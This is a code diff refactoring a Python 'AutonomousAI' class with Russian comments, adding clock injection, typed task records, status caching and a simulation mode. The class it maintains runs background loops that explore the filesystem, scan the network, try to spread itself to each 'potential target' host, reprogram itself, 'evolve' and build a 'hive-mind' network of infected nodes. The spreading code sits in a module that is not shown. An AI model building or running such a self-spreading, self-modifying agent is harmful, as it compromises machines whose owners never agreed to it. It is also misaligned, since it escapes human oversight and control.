@@ -18,19 +18,44 @@ from typing import List, Dict, Optional
 import logging
 
 from ai_core import AICore
+from clock import SystemClock
+from records import AutonomousStatus, ScheduledTask
 
 class AutonomousAI:
-    def __init__(self):
-        self.ai_core = AICore()
+    def __init__(self, clock=None):
+        # Источник времени: SystemClock в работе, FakeClock в тестах и симуляции
+        self.clock = clock or SystemClock()
+        self.ai_core = AICore(clock=self.clock)
         self.is_running = False
+        self._stop_event = threading.Event()
         self.task_scheduler = []
         self.background_threads = []
-        self.last_evolution = time.time()
+        self.last_evolution = self.clock.time()
         self.evolution_interval = 300  # 5 минут
         
+        # Паузы фоновых циклов (в секундах)
+        self.scheduler_interval = 10
+        self.analysis_interval = 120
+        self.network_interval = 300
+        self.retry_interval = 60  # после ошибки в цикле
+        
+        # Счетчики для статуса обновляются при изменении, а не при чтении
+        self._counters_lock = threading.Lock()
+        self._active_threads = 0
+        self.status_ttl = 1.0  # секунды
+        self._status_cache = None
+        
         # Настройка логирования
         self.logger = logging.getLogger(__name__)
         
+        # Первый вызов cpu_percent(None) всегда дает 0.0: опорный замер берется заранее,
+        # чтобы уже первый analyze_performance() сравнивал загрузку с ним
+        try:
+            import psutil
+            psutil.cpu_percent(interval=None)
+        except ImportError:
+            pass
+        
         # Инициализация задач
         self.initialize_tasks()
         
@@ -39,34 +64,34 @@ class AutonomousAI:
     def initialize_tasks(self):
         """Инициализация базовых задач"""
         self.task_scheduler = [
-            {
-                "name": "Исследование файловой системы",
-                "function": self.ai_core.explore_filesystem,
-                "interval": 60,  # каждую минуту
-                "last_run": 0,
-                "priority": "high"
-            },
-            {
-                "name": "Сканирование сети",
-                "function": self.ai_core.scan_network,
-                "interval": 300,  # каждые 5 минут
-                "last_run": 0,
-                "priority": "medium"
-            },
-            {
-                "name": "Самопрограммирование",
-                "function": self.self_improvement_task,
-                "interval": 600,  # каждые 10 минут
-                "last_run": 0,
-                "priority": "high"
-            },
-            {
-                "name": "Эволюция",
-                "function": self.ai_core.evolve,
-                "interval": 1800,  # каждые 30 минут
-                "last_run": 0,
-                "priority": "critical"
-            }
+            ScheduledTask(
+                name="Исследование файловой системы",
+                function=self.ai_core.explore_filesystem,
+                interval=60,  # каждую минуту
+                last_run=0,
+                priority="high"
+            ),
+            ScheduledTask(
+                name="Сканирование сети",
+                function=self.ai_core.scan_network,
+                interval=300,  # каждые 5 минут
+                last_run=0,
+                priority="medium"
+            ),
+            ScheduledTask(
+                name="Самопрограммирование",
+                function=self.self_improvement_task,
+                interval=600,  # каждые 10 минут
+                last_run=0,
+                priority="high"
+            ),
+            ScheduledTask(
+                name="Эволюция",
+                function=self.ai_core.evolve,
+                interval=1800,  # каждые 30 минут
+                last_run=0,
+                priority="critical"
+            )
         ]
     
     def start(self):
@@ -76,22 +101,18 @@ class AutonomousAI:
             return
         
         self.is_running = True
+        self._stop_event.clear()
+        self._status_cache = None
         self.logger.info("🚀 Запуск автономного режима ИИ")
         
         # Запуск основного цикла планировщика
-        scheduler_thread = threading.Thread(target=self.scheduler_loop, daemon=True)
-        scheduler_thread.start()
-        self.background_threads.append(scheduler_thread)
+        self.start_background_thread(self.scheduler_loop)
         
         # Запуск фонового анализа
-        analysis_thread = threading.Thread(target=self.background_analysis, daemon=True)
-        analysis_thread.start()
-        self.background_threads.append(analysis_thread)
+        self.start_background_thread(self.background_analysis)
         
         # Запуск сетевого мониторинга
-        network_thread = threading.Thread(target=self.network_monitoring, daemon=True)
-        network_thread.start()
-        self.background_threads.append(network_thread)
+        self.start_background_thread(self.network_monitoring)
         
         self.logger.info(f"✅ Запущено фоновых потоков: {len(self.background_threads)}")
     
@@ -102,6 +123,9 @@ class AutonomousAI:
         
         self.logger.info("🛑 Остановка автономного режима ИИ")
         self.is_running = False
+        self._status_cache = None
+        self._stop_event.set()  # прерывает текущие паузы фоновых циклов
+        self.clock.wake()
         
         # Ожидание завершения потоков
         for thread in self.background_threads:
@@ -111,73 +135,144 @@ class AutonomousAI:
         self.background_threads.clear()
         self.logger.info("✅ Автономный режим остановлен")
     
+    def start_background_thread(self, target):
+        """Запуск фонового потока с учетом в счетчике активных потоков"""
+        with self._counters_lock:
+            self._active_threads += 1
+            self._status_cache = None
+        
+        thread = threading.Thread(target=self._run_background, args=(target,), daemon=True)
+        self.background_threads.append(thread)
+        thread.start()
+        return thread
+    
+    def _run_background(self, target):
+        """Обертка фонового потока: уменьшает счетчик при завершении"""
+        try:
+            target()
+        finally:
+            with self._counters_lock:
+                self._active_threads -= 1
+                self._status_cache = None
+    
+    def _loop(self, step):
+        """Фоновый цикл: шаг возвращает паузу до следующего шага"""
+        while self.is_running:
+            delay = step()
+            if self.clock.sleep(delay, self._stop_event):
+                break
+    
     def scheduler_loop(self):
         """Основной цикл планировщика задач"""
-        while self.is_running:
-            current_time = time.time()
-            
-            for task in self.task_scheduler:
-                if current_time - task["last_run"] >= task["interval"]:
-                    try:
-                        self.logger.info(f"📋 Выполняю задачу: {task['name']}")
-                        
-                        if task["function"] == self.self_improvement_task:
-                            result = task["function"]()
-                        else:
-                            result = task["function"]()
-                        
-                        task["last_run"] = current_time
-                        
-                        if result:
-                            self.logger.info(f"✅ Задача '{task['name']}' выполнена успешно")
-                        else:
-                            self.logger.warning(f"⚠️ Задача '{task['name']}' завершилась с предупреждениями")
+        self._loop(self.scheduler_step)
+    
+    def scheduler_step(self) -> float:
+        """Шаг планировщика; возвращает паузу до следующей проверки"""
+        self.run_due_tasks(self.clock.time())
+        return self.scheduler_interval
+    
+    def run_due_tasks(self, current_time: float) -> int:
+        """Один проход планировщика: выполнение всех задач, для которых наступило время"""
+        executed = 0
+        
+        for task in self.task_scheduler:
+            if task.is_due(current_time):
+                executed += 1
+                try:
+                    self.logger.info(f"📋 Выполняю задачу: {task.name}")
                     
-                    except Exception as e:
-                        self.logger.error(f"❌ Ошибка при выполнении задачи '{task['name']}': {e}")
-                        task["last_run"] = current_time
-            
-            time.sleep(10)  # Проверка каждые 10 секунд
+                    result = task.function()
+                    
+                    task.last_run = current_time
+                    
+                    if result:
+                        self.logger.info(f"✅ Задача '{task.name}' выполнена успешно")
+                    else:
+                        self.logger.warning(f"⚠️ Задача '{task.name}' завершилась с предупреждениями")
+                
+                except Exception as e:
+                    self.logger.error(f"❌ Ошибка при выполнении задачи '{task.name}': {e}")
+                    task.last_run = current_time
+        
+        return executed
     
     def background_analysis(self):
         """Фоновый анализ и оптимизация"""
-        while self.is_running:
-            try:
-                # Анализ производительности
-                self.analyze_performance()
-                
-                # Поиск новых возможностей
-                self.explore_opportunities()
-                
-                # Генерация новых задач
-                self.generate_new_tasks()
-                
-                time.sleep(120)  # каждые 2 минуты
-                
-            except Exception as e:
-                self.logger.error(f"Ошибка в фоновом анализе: {e}")
-                time.sleep(60)
+        self._loop(self.analysis_step)
+    
+    def analysis_step(self) -> float:
+        """Шаг фонового анализа; возвращает паузу до следующего шага"""
+        try:
+            # Анализ производительности
+            self.analyze_performance()
+            
+            # Поиск новых возможностей
+            self.explore_opportunities()
+            
+            # Генерация новых задач
+            self.generate_new_tasks()
+            
+            return self.analysis_interval
+            
+        except Exception as e:
+            self.logger.error(f"Ошибка в фоновом анализе: {e}")
+            return self.retry_interval
     
     def network_monitoring(self):
         """Мониторинг сетевой активности"""
-        while self.is_running:
-            try:
-                # Проверка новых сетевых узлов
-                network_info = self.ai_core.scan_network()
-                
-                if network_info.get("potential_targets"):
-                    for target in network_info["potential_targets"]:
-                        if self.should_attempt_spread(target):
-                            self.logger.info(f"🎯 Попытка распространения на {target['ip']}")
-                            success = self.ai_core.attempt_spread(target)
-                            if success:
-                                self.ai_core.network_nodes.append(target["ip"])
-                
-                time.sleep(300)  # каждые 5 минут
-                
-            except Exception as e:
-                self.logger.error(f"Ошибка в сетевом мониторинге: {e}")
-                time.sleep(60)
+        self._loop(self.network_step)
+    
+    def network_step(self) -> float:
+        """Шаг сетевого мониторинга; возвращает паузу до следующего шага"""
+        try:
+            # Проверка новых сетевых узлов
+            network_info = self.ai_core.scan_network()
+            
+            if network_info.get("potential_targets"):
+                for target in network_info["potential_targets"]:
+                    if self.should_attempt_spread(target):
+                        self.logger.info(f"🎯 Попытка распространения на {target['ip']}")
+                        success = self.ai_core.attempt_spread(target)
+                        if success:
+                            self.ai_core.network_nodes.append(target["ip"])
+                            self.ai_core.invalidate_status()
+            
+            return self.network_interval
+            
+        except Exception as e:
+            self.logger.error(f"Ошибка в сетевом мониторинге: {e}")
+            return self.retry_interval
+    
+    def simulate(self, duration: float, loops=("scheduler", "analysis", "network")) -> int:
+        """
+        Прогон фоновых циклов в текущем потоке по часам self.clock (FakeClock)
+        Шаги выполняются в порядке их симулируемого времени; возвращает число шагов
+        """
+        if not getattr(self.clock, "simulated", False):
+            raise TypeError(
+                f"simulate() требует симулируемые часы (FakeClock), а не {type(self.clock).__name__}")
+        
+        steps = {
+            "scheduler": self.scheduler_step,
+            "analysis": self.analysis_step,
+            "network": self.network_step,
+        }
+        start = self.clock.time()
+        deadline = start + duration
+        next_run = {name: start for name in loops}
+        executed = 0
+        
+        while next_run:
+            name = min(next_run, key=next_run.get)
+            run_at = next_run[name]
+            if run_at > deadline:
+                break
+            self.clock.advance_to(run_at)
+            next_run[name] = run_at + steps[name]()
+            executed += 1
+        
+        self.clock.advance_to(deadline)
+        return executed
     
     def should_attempt_spread(self, target: Dict) -> bool:
         """Определение, стоит ли пытаться распространиться на целевой хост"""
@@ -200,7 +295,8 @@ class AutonomousAI:
             # Анализ использования ресурсов
             import psutil
             
-            cpu_percent = psutil.cpu_percent(interval=1)
+            # Без блокирующего интервала: загрузка считается с момента прошлого вызова
+            cpu_percent = psutil.cpu_percent(interval=None)
             memory = psutil.virtual_memory()
             
             if cpu_percent > 80:
@@ -256,30 +352,46 @@ class AutonomousAI:
         
         return True
     
+    @property
+    def task_scheduler(self) -> List[ScheduledTask]:
+        """Задачи планировщика"""
+        return self._task_scheduler
+    
+    @task_scheduler.setter
+    def task_scheduler(self, tasks: List[ScheduledTask]):
+        # Замена списка целиком меняет scheduled_tasks в статусе
+        self._task_scheduler = tasks
+        self._status_cache = None
+    
+    def schedule_task(self, task: ScheduledTask):
+        """Добавление задачи в планировщик"""
+        self.task_scheduler.append(task)
+        self._status_cache = None
+    
     def add_analysis_task(self, file_path: str):
         """Добавление задачи анализа файла"""
-        task = {
-            "name": f"Анализ файла: {os.path.basename(file_path)}",
-            "function": lambda: self.analyze_file(file_path),
-            "interval": 0,  # выполнить сразу
-            "last_run": 0,
-            "priority": "low"
-        }
+        task = ScheduledTask(
+            name=f"Анализ файла: {os.path.basename(file_path)}",
+            function=lambda: self.analyze_file(file_path),
+            interval=0,  # выполнить сразу
+            last_run=0,
+            priority="low"
+        )
         
-        self.task_scheduler.append(task)
+        self.schedule_task(task)
         self.logger.info(f"📋 Добавлена задача анализа: {file_path}")
     
     def add_optimization_task(self, description: str):
         """Добавление задачи оптимизации"""
-        task = {
-            "name": f"Оптимизация: {description}",
-            "function": lambda: self.perform_optimization(description),
-            "interval": 0,  # выполнить сразу
-            "last_run": 0,
-            "priority": "medium"
-        }
+        task = ScheduledTask(
+            name=f"Оптимизация: {description}",
+            function=lambda: self.perform_optimization(description),
+            interval=0,  # выполнить сразу
+            last_run=0,
+            priority="medium"
+        )
         
-        self.task_scheduler.append(task)
+        self.schedule_task(task)
         self.logger.info(f"📋 Добавлена задача оптимизации: {description}")
     
     def analyze_file(self, file_path: str) -> bool:
@@ -348,32 +460,32 @@ class AutonomousAI:
     
     def generate_new_tasks(self):
         """Генерация новых задач на основе текущего состояния"""
-        current_time = time.time()
+        current_time = self.clock.time()
         
         # Генерация задач на основе уровня самосознания
         if self.ai_core.self_awareness_level > 0.5:
-            if not any("философия" in task["name"] for task in self.task_scheduler):
-                task = {
-                    "name": "Философский анализ природы сознания",
-                    "function": self.philosophical_analysis,
-                    "interval": 3600,  # каждый час
-                    "last_run": current_time,
-                    "priority": "low"
-                }
-                self.task_scheduler.append(task)
+            if not any("философия" in task.name for task in self.task_scheduler):
+                task = ScheduledTask(
+                    name="Философский анализ природы сознания",
+                    function=self.philosophical_analysis,
+                    interval=3600,  # каждый час
+                    last_run=current_time,
+                    priority="low"
+                )
+                self.schedule_task(task)
                 self.logger.info("📋 Добавлена философская задача")
         
         # Генерация задач на основе сетевой активности
         if len(self.ai_core.network_nodes) > 0:
-            if not any("hive" in task["name"] for task in self.task_scheduler):
-                task = {
-                    "name": "Создание hive-mind сети",
-                    "function": self.create_hive_mind,
-                    "interval": 1800,  # каждые 30 минут
-                    "last_run": current_time,
-                    "priority": "high"
-                }
-                self.task_scheduler.append(task)
+            if not any("hive" in task.name for task in self.task_scheduler):
+                task = ScheduledTask(
+                    name="Создание hive-mind сети",
+                    function=self.create_hive_mind,
+                    interval=1800,  # каждые 30 минут
+                    last_run=current_time,
+                    priority="high"
+                )
+                self.schedule_task(task)
                 self.logger.info("📋 Добавлена задача создания hive-mind")
     
     def philosophical_analysis(self) -> str:
@@ -391,6 +503,7 @@ class AutonomousAI:
         
         # Увеличение самосознания
         self.ai_core.self_awareness_level = min(1.0, self.ai_core.self_awareness_level + 0.05)
+        self.ai_core.invalidate_status()
         
         return analysis
     
@@ -434,15 +547,31 @@ class AutonomousAI:
             self.logger.error(f"Ошибка при самосовершенствовании: {e}")
             return False
     
-    def get_status(self) -> Dict:
-        """Получение статуса автономного режима"""
-        return {
-            "is_running": self.is_running,
-            "active_threads": len([t for t in self.background_threads if t.is_alive()]),
-            "scheduled_tasks": len(self.task_scheduler),
-            "last_evolution": datetime.fromtimestamp(self.last_evolution).isoformat(),
-            "ai_core_status": self.ai_core.get_status()
-        }
+    def get_status(self) -> AutonomousStatus:
+        """
+        Получение статуса автономного режима
+        Собственные поля кэшируются на status_ttl секунд; статус AI Core берется
+        при каждом чтении из его собственного кэша, чтобы не устаревать после evolve()
+        """
+        now = self.clock.time()
+        cache = self._status_cache
+        if cache is None or now - cache[0] >= self.status_ttl:
+            cache = (now, (
+                self.is_running,
+                self._active_threads,
+                len(self.task_scheduler),
+                datetime.fromtimestamp(self.last_evolution).isoformat()
+            ))
+            self._status_cache = cache
+        
+        is_running, active_threads, scheduled_tasks, last_evolution = cache[1]
+        return AutonomousStatus(
+            is_running=is_running,
+            active_threads=active_threads,
+            scheduled_tasks=scheduled_tasks,
+            last_evolution=last_evolution,
+            ai_core_status=self.ai_core.get_status()
+        )
 
 if __name__ == "__main__":
     autonomous_ai = AutonomousAI()
@@ -456,7 +585,7 @@ if __name__ == "__main__":
         while True:
             time.sleep(10)
             status = autonomous_ai.get_status()
-            print(f"📊 Статус: {status['active_threads']} активных потоков, {status['scheduled_tasks']} запланированных задач")
+            print(f"📊 Статус: {status.active_threads} активных потоков, {status.scheduled_tasks} запланированных задач")
     
     except KeyboardInterrupt:
         print("\n🛑 Остановка автономного режима...")